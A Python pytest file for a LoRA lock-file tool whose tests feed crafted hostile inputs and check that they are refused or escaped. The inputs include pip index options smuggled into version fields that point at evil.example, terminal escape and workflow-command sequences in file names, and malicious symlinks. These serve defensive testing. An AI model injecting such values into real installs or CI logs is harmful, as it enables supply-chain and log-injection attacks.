"""Locks, names and caches crafted to mislead: the output stays safe, the lock stays honest, the error stays clear.

Each test is one such input: a pip option smuggled through ``export-env``, Hub adapters in ``diff``, glob
characters in a lock name, cache symlinks pointing outside the repo's blobs, Hub ids huggingface_hub refuses, and
terminal or workflow-command sequences in file names.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from lora_lock.commands.generate import generate
from lora_lock.errors import SourceError
from lora_lock.report import printable
from lora_lock.report.markdown import _cell
from lora_lock.sources.hub import HubFile, HubSnapshot, parse_spec
from tests.helpers import NO_CRASH, edit_lock, run_cli

#: The shared runner; this file's input is hostile, and no run may crash on it.
cli = partial(run_cli, forbid=NO_CRASH)


@pytest.fixture
def repo(tmp_path: Path, tiny_llama: Path, tiny_llama_adapter: Path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(tiny_llama, root / "base")
    shutil.copytree(tiny_llama_adapter, root / "adapter")
    result = generate([root / "adapter"], root / "base", root / "lora.lock", probe=False)
    assert result.written
    return root


def edited(repo: Path, name: str, change: Any) -> Path:
    """``repo/lora.lock`` edited by ``change``, written next to it as ``name``."""
    return edit_lock(repo / "lora.lock", change, to=repo / name)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("tokenizers", "0.23.3\n--index-url http://evil.example/simple"),
        ("evil @ https://evil.example/x.whl ; python_version>'0' #", "1"),
        ("torch", "2.13.0 --extra-index-url=http://evil.example"),
    ],
)
def test_export_env_never_writes_what_pip_would_obey(
    repo: Path, capsys: pytest.CaptureFixture[str], key: str, value: str
) -> None:
    lock = edited(repo, "evil.lock", lambda d: d["environment"]["versions"].__setitem__(key, value))
    rc, out, err = cli(capsys, "export-env", str(lock))
    assert rc == 2
    assert "evil.example" not in out
    assert "environment/versions" in err
    rc, out, _ = cli(capsys, "export-env", str(repo / "lora.lock"))
    assert rc == 0 and "torch==" in out


def test_export_env_pins_admit_every_build_of_the_locked_release(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A lock made on a CPU machine records ``torch 2.13.0+cpu``; its constraints must still let a GPU runner
    install the CUDA build of the same release (PEP 440: ``==2.13.0`` matches any local label)."""
    from packaging.requirements import Requirement

    lock = edited(repo, "cpu.lock", lambda d: d["environment"]["versions"].__setitem__("torch", "2.13.0+cpu"))
    rc, out, _ = cli(capsys, "export-env", str(lock))
    assert rc == 0
    (line,) = [ln for ln in out.splitlines() if ln.startswith("torch")]
    assert line == "torch==2.13.0  # locked with the cpu build"
    pin = Requirement(line.split("#")[0].strip())
    assert pin.specifier.contains("2.13.0+cu124") and pin.specifier.contains("2.13.0+cpu")
    assert not pin.specifier.contains("2.13.1")


def test_diff_names_a_hub_adapter_added_or_removed(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def add(doc: dict[str, Any]) -> None:
        hub = dict(doc["adapter"][0], name="remote", repo="org/remote-adapter", revision="a" * 40)
        del hub["source"]
        doc["adapter"].append(hub)

    hub_lock = edited(repo, "hub.lock", add)
    rc, out, _ = cli(capsys, "diff", str(repo / "lora.lock"), str(hub_lock))
    assert rc == 1 and "adapter remote added" in out
    rc, out, _ = cli(capsys, "diff", str(repo / "lora.lock"), str(hub_lock), "--format", "json")
    assert rc == 1 and "org/remote-adapter@" + "a" * 40 in out
    rc, out, _ = cli(capsys, "diff", str(hub_lock), str(repo / "lora.lock"), "--format", "json")
    assert rc == 1 and "adapter remote removed" in out


def test_a_lock_name_with_glob_characters_leaves_other_locks_sidecars(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    others = [repo / "a1.lock.probe-000000000000.json", repo / "ab.lock.probe-111111111111.json"]
    for path in others:
        path.write_text("{}\n", encoding="utf-8")
    rc, _, err = cli(
        capsys, "generate", "--no-probe", "--adapter", str(repo / "adapter"), "--base", str(repo / "base"),
        "-o", str(repo / "a[1b].lock"),
    )  # fmt: skip
    assert rc == 0, err
    assert all(path.exists() for path in others)


@pytest.mark.parametrize(
    "spec", ["org/na..me", "org/name--x", "org/name.git", "org/name-", "o" * 97 + "/x", "org/" + "n" * 97]
)
def test_hub_ids_huggingface_hub_refuses_are_refused_up_front(spec: str) -> None:
    with pytest.raises(SourceError, match="neither a local directory nor a Hub repo id"):
        parse_spec(spec)


def test_hub_ids_huggingface_hub_accepts_still_parse() -> None:
    assert parse_spec("meta-llama/Llama-3.1-8B@main") == ("meta-llama/Llama-3.1-8B", "main")
    assert parse_spec("gpt2") == ("gpt2", None)
    assert parse_spec("org/name.v2_x") == ("org/name.v2_x", None)


def test_a_cache_link_outside_the_repos_blobs_proves_nothing(tmp_path: Path) -> None:
    """huggingface_hub names LFS blobs by their sha256, so a snapshot link into blobs/ names its content; a link
    pointing elsewhere (at a file named like the locked digest) must not be trusted."""
    data = b"weights"
    digest = hashlib.sha256(data).hexdigest()
    repo_dir = tmp_path / "models--org--x"
    snapshot = repo_dir / "snapshots" / ("c" * 40)
    (repo_dir / "blobs").mkdir(parents=True)
    snapshot.mkdir(parents=True)
    (repo_dir / "blobs" / digest).write_bytes(data)
    (snapshot / "inside.safetensors").symlink_to(Path("../../blobs") / digest)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / digest).write_bytes(b"something else")
    (snapshot / "outside.safetensors").symlink_to(elsewhere / digest)
    files = {n: HubFile(n, None, None, None) for n in ("inside.safetensors", "outside.safetensors")}
    snap = HubSnapshot("org/x", "c" * 40, "main", snapshot, repo_dir, files)

    known = snap.known_digests(trust_cache_names=True)

    assert set(known) == {"inside.safetensors"}
    assert known["inside.safetensors"].digest == f"sha256:{digest}"


def test_file_names_cannot_drive_a_terminal_or_a_workflow() -> None:
    assert printable("a\x1b[2Jb\rc") == "a\\x1b[2Jb\\x0dc"
    assert printable("x\n  ::error file=a::owned") == "x\n  :\u200b:error file=a::owned"
    assert printable("tab\tand newline\n stay") == "tab\tand newline\n stay"
    cell = _cell("pipe|x\r## heading [t](http://evil.example) ![i](y)")
    assert "\r" not in cell and "\\|" in cell and "](" not in cell.replace("\\](", "")
    assert json.dumps(cell)  # plain text


def test_a_symlinked_base_is_locked_as_written_and_moves_with_the_repo(
    tmp_path: Path, tiny_llama: Path, tiny_llama_adapter: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shared = tmp_path / "shared" / "models" / "tiny-llama"
    shutil.copytree(tiny_llama, shared)
    root = tmp_path / "repo"
    shutil.copytree(tiny_llama_adapter, root / "adapter")
    (root / "base").symlink_to(shared)  # absolute link to a shared model directory
    result = generate([root / "adapter"], root / "base", root / "lora.lock", probe=False)
    assert result.lock is not None and result.lock.base.source == "base"

    moved = tmp_path / "deeper" / "still" / "repo"
    moved.parent.mkdir(parents=True)
    shutil.copytree(root, moved, symlinks=True)
    # The shared directory is outside the lock's repository: verify opens it only when told to.
    rc, out, _ = cli(capsys, "verify", str(moved / "lora.lock"))
    assert rc == 2 and "outside the lock's repository" in out and "--allow-outside-sources" in out, out
    rc, out, _ = cli(capsys, "verify", str(moved / "lora.lock"), "--allow-outside-sources")
    assert rc == 0, out


def test_names_too_long_for_the_filesystem_are_clear_errors(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long = "a" * 300
    rc, out, err = cli(capsys, "check", long, "--base", str(repo / "base"))
    assert rc == 2 and "is neither a local directory nor a Hub repo id" in out + err and long not in out + err
    rc, out, err = cli(capsys, "check", str(repo / "adapter"), "--base", str(repo / long))
    assert rc == 2 and "File name too long" in out + err

    lock = edited(repo, "long.lock", lambda d: d["base"].__setitem__("source", long))
    rc, out, err = cli(capsys, "verify", str(lock))
    assert rc == 2 and "File name too long" in out + err


@pytest.mark.parametrize(
    ("quantization", "field"),
    [
        ({"quant_method": "gptq", "bits": "four"}, "quantization_config.bits"),
        ({"quant_method": "gptq", "bits": 5}, "quantization_config.bits"),
        ({"quant_method": "gptq", "bits": {"a": None}}, "quantization_config.bits"),
        ({"quant_method": "bitsandbytes", "load_in_8bit": True, "llm_int8_skip_modules": ["lm_head", None]}, "skip"),
    ],
)
def test_quantization_values_a_lock_cannot_hold_are_refused(
    repo: Path, capsys: pytest.CaptureFixture[str], quantization: dict[str, Any], field: str
) -> None:
    """NaN never equals itself (a fresh lock would fail its own verify); None and nested objects have no TOML form."""
    config_path = repo / "base" / "config.json"
    config = json.loads(config_path.read_text(encoding="utf-8"))
    config["quantization_config"] = quantization
    config_path.write_text(json.dumps(config), encoding="utf-8")
    rc, out, err = cli(capsys, "generate", "--no-probe", "--adapter", str(repo / "adapter"), "--base",
                       str(repo / "base"), "-o", str(repo / "q.lock"))  # fmt: skip
    assert rc == 2
    assert "config.json" in out + err and field in out + err
    assert not (repo / "q.lock").exists()


def test_an_integer_too_large_for_a_float_is_a_clear_error(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config_path = repo / "adapter" / "adapter_config.json"
    text = config_path.read_text(encoding="utf-8")
    config = json.loads(text)
    config["lora_alpha"] = 0
    config_path.write_text(
        json.dumps(config).replace('"lora_alpha": 0', '"lora_alpha": ' + "9" * 401), encoding="utf-8"
    )
    rc, out, err = cli(capsys, "check", str(repo / "adapter"), "--base", str(repo / "base"))
    assert rc == 2 and "lora_alpha" in out + err


def test_a_nan_in_an_unknown_quantization_config_does_not_break_the_fresh_lock(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config_path = repo / "base" / "config.json"
    config = json.loads(config_path.read_text(encoding="utf-8"))
    config["quantization_config"] = {"quant_method": "hqq", "nbits": 4, "thr": float("nan")}
    config_path.write_text(json.dumps(config), encoding="utf-8")
    rc, _, err = cli(capsys, "generate", "--no-probe", "--adapter", str(repo / "adapter"), "--base",
                     str(repo / "base"), "-o", str(repo / "q.lock"))  # fmt: skip
    assert rc == 0, err
    assert "nan" not in (repo / "q.lock").read_text(encoding="utf-8")
    rc, out, _ = cli(capsys, "verify", str(repo / "q.lock"))
    assert rc == 0, out


@pytest.mark.parametrize(("value", "message"), [("", "no category given"), (",", "no category given"),
                                                ("input", "unknown category input")])  # fmt: skip
def test_only_and_skip_need_real_categories(
    repo: Path, capsys: pytest.CaptureFixture[str], value: str, message: str
) -> None:
    for flag in ("--only", "--skip"):
        rc, out, err = cli(capsys, "verify", str(repo / "lora.lock"), flag, value)
        assert rc == 2 and message in out + err and "choose from base," in out + err


def test_a_closed_pipe_is_not_an_internal_error(repo: Path) -> None:
    import subprocess

    script = (
        "import sys; from lora_lock._cli import main; "
        f"sys.exit(main(['verify', {str(repo / 'lora.lock')!r}, '--format', 'json']))"
    )
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader is gone before the report is written
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 141
    assert "internal error" not in err and "Traceback" not in err
